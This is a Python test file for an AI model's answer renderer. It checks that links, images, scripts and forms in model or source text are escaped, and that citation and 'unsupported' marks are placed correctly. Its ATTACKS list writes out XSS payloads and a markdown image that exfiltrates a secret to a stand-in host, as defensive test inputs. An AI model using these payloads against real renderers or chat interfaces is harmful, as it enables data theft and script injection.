"""What a model or a document writes is shown as text: no link, image, script, form or remote address survives."""

from __future__ import annotations

import html
from dataclasses import replace

import pytest

from assistant.answer import Answer, Sentence
from assistant.evidence.reading import Passage
from assistant.interfaces.rendering import (
    answer_markdown,
    checked_markdown,
    plain_markdown,
    searched_as_html,
    sources_html,
)
from assistant.keeping.conversation import ReadPassage
from assistant.verifying.support import SupportChecker
from assistant.verifying.verification import Checked, verify
from tests.doubles import make_document

ATTACKS = [
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "<img src=x onerror=alert(1)>",
    '<img srcset="https://evil.example/a 1x">',
    "<svg onload=alert(1)><image href=https://evil.example/></svg>",
    '"><script>alert(1)</script>',
    "<form action=https://evil.example><input type=password></form>",
    '<div style="position:fixed;background:url(https://evil.example)">',
    "[click](javascript:alert(1))",
    "<https://evil.example>",
    "https://evil.example/a",
    "www.evil.example",
    "mailto:x@evil.example",
    "$$\\href{javascript:alert(1)}{x}$$",
    "```mermaid\nclick A javascript:alert(1)\n```",
    "&lt;script&gt;",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_markdown_is_live(attack: str) -> None:
    shown = plain_markdown(f"before {attack} after")
    assert "<" not in shown
    assert "](" not in shown
    assert "]:" not in shown
    assert "$" not in shown
    assert "```" not in shown
    for scheme in ("https:", "http:", "javascript:", "mailto:", "www."):
        assert scheme not in shown.lower()


@pytest.mark.parametrize("attack", ATTACKS)
def test_sources_are_escaped(attack: str) -> None:
    document = replace(make_document(f"Cost. {attack}"), title=attack, address=attack)
    passage = Passage(1, document, attack, 0, len(document.text), 1.0)
    citations = verify("Cost.", SupportChecker([passage], lambda word: 1.0)).citations
    shown = sources_html([ReadPassage.of(passage)], citations, "en", 1) + searched_as_html(attack, "en")
    for tag in ("<img", "<svg", "<script", "<form", "<input", "<a ", "<div style"):
        assert tag not in shown
    assert html.escape(attack) in shown


def test_unsupported_sentences_are_marked_in_words_and_supported_ones_cited() -> None:
    text = "推理服务是最大的一块成本。"
    passage = Passage(1, make_document(text, language="zh"), "", 0, len(text), 1.0)
    verified = verify(f"{text}完全没有根据的另一句话。", SupportChecker([passage], lambda word: 1.0))
    answer = Answer("1", "q", "q", "zh", "answered", "", verified.text, verified.sentences, verified.citations)
    shown = answer_markdown(answer, 7)
    assert shown == "推理服务是最大的一块成本。[[1]](#s-7-1)完全没有根据的另一句话。 *〔资料不支持〕*"
    assert f"<mark>{text}</mark>" in sources_html([ReadPassage.of(passage)], verified.citations, "zh", 7)


def test_what_is_quoted_in_place_of_a_draft_comes_before_it() -> None:
    sentences = (Sentence("月球是奶酪做的。", "unsupported"), Sentence("量化能省显存。", "supported", (1,)))
    text = "资料原文是这样写的：\n- 量化能省显存。[1]"
    shown = answer_markdown(Answer("1", "q", "q", "zh", "partial", "quoted_instead", text, sentences))
    assert shown.index("量化能省显存。[1]") < shown.index("> 月球是奶酪做的。 *〔资料不支持〕*")
    assert shown.count("量化能省显存") == 1


def test_clauses_of_a_line_that_rest_on_the_same_passages_share_one_mark() -> None:
    texts = ("成本要算清；", "量化能省显存；", "批处理能省一半。", "没有根据的话；", "又一句没有根据的话。")
    sentences = [Sentence(text, "supported", (1, 2) if n == 2 else (1,)) for n, text in enumerate(texts[:3])]
    sentences += [Sentence(text, "unsupported") for text in texts[3:]]
    checked = [Checked("", sentence) for sentence in sentences]
    whole = (
        "成本要算清；量化能省显存；[[1]](#s-7-1)批处理能省一半。[[1]](#s-7-1)[[2]](#s-7-2)"
        "没有根据的话；又一句没有根据的话。 *〔资料不支持〕*"
    )
    assert checked_markdown(checked, "zh", 7) == whole
    # While it is written, the mark stands behind what has come.
    assert checked_markdown(checked[:1], "zh", 7) == "成本要算清；[[1]](#s-7-1)"
    text = "".join(sentence.text + "".join(f"[{n}]" for n in sentence.citations) for sentence in sentences)
    answer = Answer("1", "q", "q", "zh", "answered", "", text, tuple(sentences))
    assert answer_markdown(answer, 7) == whole


@pytest.mark.parametrize("between", ["\n", "\n- "])
def test_lines_keep_their_own_marks(between: str) -> None:
    first, second = Sentence("Cost.", "supported", (1,)), Sentence("Price.", "supported", (1,))
    shown = checked_markdown([Checked("- ", first), Checked(between, second)], "en", None)
    assert shown == f"- Cost.[1]{between}Price.[1]"


def test_what_claims_nothing_ends_a_run() -> None:
    claim, none = Sentence("Cost.", "supported", (1,)), Sentence("Is it?", "no_claim")
    shown = checked_markdown([Checked("", claim), Checked(" ", none), Checked(" ", claim)], "en", None)
    assert shown == "Cost.[1] Is it? Cost.[1]"


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_checked_sentence_is_live(attack: str) -> None:
    shown = checked_markdown([Checked("", Sentence(f"before {attack} after", "unsupported"))], "en", 7)
    for live in ("<", "](", "]:", "$", "```", "https:", "http:", "javascript:", "mailto:", "www."):
        assert live not in shown.lower()
